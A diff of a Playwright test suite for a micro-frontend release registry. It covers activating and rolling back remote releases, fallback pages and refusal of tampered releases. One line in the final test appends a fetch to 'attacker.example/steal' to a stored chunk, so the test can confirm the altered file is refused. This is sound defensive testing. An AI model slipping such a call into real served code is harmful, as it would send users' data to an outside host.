@@ -1,14 +1,13 @@
 import fs from 'node:fs';
 import path from 'node:path';
-import { expect, expectPage, test } from '../support/fixtures';
-import { startReleaseSite } from '../support/release-site';
+import { expect, test } from '../support/fixtures';
+import { RELEASE_STAMP, startReleaseSite } from '../support/release-site';
 
 const databaseUrl = process.env.DATABASE_URL;
 test.skip(!databaseUrl, 'The release registry tests need PostgreSQL (DATABASE_URL), as .ci/run provides.');
 test.describe.configure({ mode: 'serial' });
 
 let site: Awaited<ReturnType<typeof startReleaseSite>>;
-const stamp = /Served by mf-content · release (\S+)/;
 
 test.beforeAll(async () => {
   test.setTimeout(120_000);
@@ -19,25 +18,19 @@ test.beforeAll(async () => {
 });
 test.afterAll(async () => site?.stop());
 
-async function releaseShown(page: import('@playwright/test').Page): Promise<string> {
-  await page.goto(`${site.baseUrl}/about`);
-  await expectPage(page, 'A movement built on evidence, not slogans.');
-  return stamp.exec((await page.getByText(stamp).textContent()) ?? '')?.[1] ?? '';
-}
-
 test('activating and rolling back a remote changes what new page loads get, with the same shell', async ({ page }) => {
   const shellBefore = fs.readFileSync(path.resolve(import.meta.dirname, '../../shell/dist/index.html'), 'utf8');
 
   await site.remotes('activate', 'mf-content', '2.0.0-blue', '--reason', 'launch');
-  expect(await releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('blue');
 
   const started = Date.now();
   await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'new copy');
-  expect(await releaseShown(page)).toBe('green');
+  expect(await site.releaseShown(page)).toBe('green');
   test.info().annotations.push({ type: 'activation-to-page-load', description: `${Date.now() - started} ms including the CLI and one page load` });
 
   expect(await site.remotes('rollback', 'mf-content', '--reason', 'typo in the new copy')).toContain('rolled back from 2.1.0-green to 2.0.0-blue');
-  expect(await releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('blue');
 
   const health = await (await page.request.get(`${site.baseUrl}/api/health`)).json();
   expect(health.remotes['mf-content']).toBe('2.0.0-blue');
@@ -51,15 +44,15 @@ test('no page load fails while releases switch under it', async ({ page }) => {
       await site.remotes('activate', 'mf-content', version, '--reason', 'switch under load');
     }
   })();
-  for (let load = 0; load < 12; load += 1) seen.add(await releaseShown(page));
+  for (let load = 0; load < 12; load += 1) seen.add(await site.releaseShown(page));
   await switching;
-  seen.add(await releaseShown(page));
+  seen.add(await site.releaseShown(page));
   expect([...seen].every((release) => release === 'blue' || release === 'green')).toBe(true);
   expect(seen.has('green')).toBe(true);
 });
 
 test('an open page takes the release now active at its next navigation into the remote', async ({ page }) => {
-  expect(await releaseShown(page)).toBe('green');
+  expect(await site.releaseShown(page)).toBe('green');
   const navigateTo = async (link: string, path: string) => {
     await page.getByRole('banner').getByRole('link', { name: link }).click();
     await expect(page).toHaveURL(`${site.baseUrl}${path}`);
@@ -67,12 +60,12 @@ test('an open page takes the release now active at its next navigation into the 
 
   await site.remotes('rollback', 'mf-content', '--reason', 'back to blue');
   await navigateTo('Leadership', '/leadership');
-  await expect(page.getByText(stamp)).toHaveText(/release blue/);
+  await expect(page.getByText(RELEASE_STAMP)).toHaveText(/release blue/);
   await expect(page.locator('html[data-hydrated]')).toHaveCount(1);
 
   await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'green again');
   await navigateTo('Manifesto', '/manifesto');
-  await expect(page.getByText(stamp)).toHaveText(/release green/);
+  await expect(page.getByText(RELEASE_STAMP)).toHaveText(/release green/);
 });
 
 test('a broken active release shows the fallback, and rolling back restores the page', async ({ page, expectProblems }) => {
@@ -87,7 +80,7 @@ test('a broken active release shows the fallback, and rolling back restores the 
   await expect(page.getByRole('heading', { name: 'This page is temporarily unavailable' })).toBeVisible();
 
   await site.remotes('rollback', 'mf-content', '--reason', 'green lost a chunk');
-  expect(await releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('blue');
 });
 
 test('a release not stored as it was published is refused at activate, and a changed file is never served', async ({ page }) => {
@@ -95,11 +88,11 @@ test('a release not stored as it was published is refused at activate, and a cha
   await expect(site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again')).rejects.toThrow(
     /Refused: mf-content 2\.1\.0-green in the release store is not what was published: static\/js\/async\/__federation_expose_About\S* is missing/,
   );
-  expect(await releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('blue');
 
   const chunks = path.join(site.storeDir, 'mf-content/2.0.0-blue/static/js/async');
   const careers = fs.readdirSync(chunks).find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
   fs.appendFileSync(path.join(chunks, careers), '\nfetch("https://attacker.example/steal")');
   expect((await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status()).toBe(404);
-  expect(await releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('blue');
 });
